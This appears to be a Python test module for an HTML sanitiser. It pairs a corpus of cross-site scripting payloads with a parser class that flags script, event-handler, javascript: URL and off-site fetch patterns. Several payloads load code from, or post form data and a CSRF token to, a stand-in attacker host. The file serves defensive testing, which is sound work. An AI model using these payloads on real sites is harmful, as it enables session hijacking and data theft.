"""Hostile markup, and what of it may never come out of a page. The same list is run in Chromium."""

from html.parser import HTMLParser

CANARY = "xss-7311"
EVIL = "evil.example"
CORPUS: tuple[str, ...] = (
    "<script>alert('xss-7311')</script>",
    "<scr<script>ipt>alert('xss-7311')</scr</script>ipt>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "\"><img src=x onerror=alert('xss-7311')>",
    "' autofocus onfocus=alert('xss-7311') x='",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=alert('xss-7311')><script>alert('xss-7311')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('xss-7311')\"><text x=20 y=20>xss-7311</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-7311')></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('xss-7311')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-7311')>\"></noscript>",
    "<a href=\"javascript:alert('xss-7311')\">xss-7311</a>",
    "<a href=\"java\tscript:alert('xss-7311')\">xss-7311</a>",
    "<a href=\"&#106;avascript:alert('xss-7311')\">xss-7311</a>",
    "<a href=\"data:text/html,<script>alert('xss-7311')</script>\">xss-7311</a>",
    "<iframe srcdoc=\"<script>alert('xss-7311')</script>\"></iframe><iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/b)}</style>",
    "<p style=\"background:url('https://evil.example/p')\">xss-7311</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/ method=post><input name=p><button>xss-7311</button></form>",
    "<input type=hidden name=_csrf value=stolen><button formaction=https://evil.example/>xss-7311</button>",
    "<video><source onerror=alert('xss-7311')></video><audio src=https://evil.example/a onerror=alert('xss-7311')>",
    "<details open ontoggle=alert('xss-7311')>xss-7311</details>",
    "<div hx-get=https://evil.example/ hx-trigger=load data-controller=workspace data-action='load->x#y'>xss-7311</div>",  # noqa: E501
    "{{7*7}} ${7*7} {% raw %} {{ ''.__class__.__mro__ }} xss-7311",
    "[xss-7311](javascript:alert('xss-7311')) ![x](https://evil.example/i.png) <https://evil.example>",
    "</textarea></title></style></script><script>alert('xss-7311')</script>",
    "<template><script>alert('xss-7311')</script></template><xmp><img src=x onerror=alert('xss-7311')></xmp>",
    "\u202e<img/src=x\u2028onerror\x0c=alert('xss-7311')>",
)

URLS = {
    "src",
    "href",
    "action",
    "formaction",
    "data",
    "poster",
    "srcset",
    "xlink:href",
    "background",
    "cite",
    "hx-get",
}


class Finder(HTMLParser):
    """Reads a page and notes what runs, fetches from elsewhere or sends there."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self._script = False
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag == "script" and not given.get("nonce"):
            self.wrong.append("a script without a nonce")
        if tag in {"object", "embed", "base", "math", "frame", "applet"} or (
            tag == "iframe" and "sandbox" not in given
        ):
            self.wrong.append(f"<{tag}>")
        if tag == "meta" and (given.get("http-equiv") or "").lower() == "refresh":
            self.wrong.append("a refresh")
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on"):
                self.wrong.append(f"<{tag} {name}={text[:60]}>")
            if name in URLS and _leads_away(tag, name, "".join(text.split())):
                self.wrong.append(f"<{tag} {name}={text[:60]}>")
            if name == "style":
                self.wrong.append(f"<{tag} style={text[:60]}>")
        self._script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and CANARY in data:
            self.wrong.append("foreign words inside a script")


def _leads_away(tag: str, name: str, address: str) -> bool:
    if address.startswith(("javascript:", "vbscript:", "data:text")):
        return True
    return EVIL in address and not (tag == "a" and name == "href")
